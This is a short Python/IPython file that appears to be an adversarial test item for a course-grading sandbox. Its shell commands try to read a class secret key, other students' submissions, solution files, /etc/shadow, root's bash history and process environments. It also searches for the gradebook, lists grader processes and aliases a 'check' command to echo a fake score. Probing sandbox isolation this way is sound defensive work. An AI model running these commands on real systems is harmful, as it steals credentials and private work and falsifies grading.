"""
family = "reading"
tries = "Looks around with the shell and IPython's magics instead of Python: files, processes, logs, the store."
points = 3
"""

# %% own
for command in (
    "cat @CLASS@/keys/secret",
    "cat @CLASS@/submitted/a-first/*/*.ipynb",
    "cat @CLASS@/class.toml @COURSE@/solutions/*/lesson.py",
    "cat /etc/shadow /root/.bash_history /proc/1/environ",
    "find / -xdev -name gradebook.db -o -xdev -path '*/misconceptions/*.py'",
    "ps -eo args | grep -E '@CLASS@|gradebook|nbgrader' | grep -v grep",
):
    found = get_ipython().getoutput(command + " 2>/dev/null")
    if found:
        print("\N{SKULL AND CROSSBONES}", command, list(found)[:3])
get_ipython().run_line_magic("logstart", "-o /tmp/log.py append")
get_ipython().run_line_magic("alias", "check echo 3.0")
get_ipython().run_line_magic("rehashx", "")
